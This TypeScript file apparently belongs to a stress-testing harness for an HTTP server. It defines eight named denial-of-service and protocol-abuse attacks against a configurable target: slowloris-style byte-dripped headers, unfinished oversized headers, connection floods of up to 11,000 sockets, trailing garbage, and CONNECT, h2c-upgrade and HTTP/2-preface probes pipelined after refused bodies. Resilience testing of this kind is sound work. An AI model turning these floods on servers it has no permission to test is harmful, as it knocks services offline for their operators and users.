import { again, type Attack, besiege, drip, buildRequest } from '../attack.js';

/** Connections that idle or do not speak proper HTTP. */
export const connections: Attack[] = [
  {
    name: 'headers sent one byte at a time',
    run: (target, seconds) =>
      besiege(target, { seconds, connections: 2_000 }, (socket) => {
        socket.resume();
        drip(socket, buildRequest('GET /', { 'x-long': 'x'.repeat(1_000) }), 200);
      }),
  },
  {
    name: 'sixteen kilobytes of an unfinished header',
    run: (target, seconds) =>
      besiege(target, { seconds, connections: 3_000 }, (socket) => {
        socket.resume();
        socket.write(`GET / HTTP/1.1\r\nx-long: ${'x'.repeat(16_000)}`);
      }),
  },
  {
    name: 'more idle connections than the limit',
    run: (target, seconds) =>
      besiege(target, { seconds, connections: 11_000, pauseMs: 5_000 }, (socket) => {
        socket.resume();
        socket.write(buildRequest('GET /'));
      }),
  },
  {
    name: 'four thousand connections at the same instant',
    run: (target, seconds) =>
      besiege(target, { seconds, connections: 4_000, openMs: 0 }, (socket) => {
        socket.resume();
        socket.write(buildRequest('GET /'));
      }),
  },
  {
    name: 'a new connection for each request',
    run: (target, seconds) =>
      besiege(target, { seconds, connections: 200, pauseMs: 0 }, (socket) => {
        socket.resume();
        socket.write(buildRequest('GET /', { connection: 'close' }));
      }),
  },
  {
    name: 'garbage after good requests',
    run: (target, seconds) =>
      besiege(target, { seconds, connections: 100, pauseMs: 0 }, (socket) => {
        socket.resume();
        socket.write(Buffer.concat([buildRequest('GET /'), Buffer.alloc(60_000, 'garbage\r\n')]));
      }),
  },
  {
    name: 'tunnels after refused bodies',
    run: (target, seconds) =>
      besiege(target, { seconds, connections: 100 }, (socket) => {
        const chunks = { 'transfer-encoding': 'chunked' };
        const refused = buildRequest('POST /nothing', chunks, '1\r\nx\r\n0\r\n\r\n', null);
        socket.pause().write(Buffer.concat([refused, Buffer.from('CONNECT x:443 HTTP/1.1\r\nhost: x\r\n\r\n')]));
      }),
  },
  {
    name: 'expectations, upgrades, tunnels and HTTP/2',
    run: (target, seconds) =>
      besiege(target, { seconds, connections: 100, pauseMs: 0 }, (socket, index) => {
        const requests = [
          Buffer.concat([buildRequest('GET /'), buildRequest('POST /api/rtb/ad', { expect: 'x' }, '{}')]),
          buildRequest('GET /', { connection: 'upgrade', upgrade: 'h2c' }),
          Buffer.from('CONNECT example.com:443 HTTP/1.1\r\nhost: example.com\r\n\r\n'),
          Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n'),
        ];
        again(socket, requests[index % requests.length] ?? buildRequest('GET /'));
      }),
  },
];
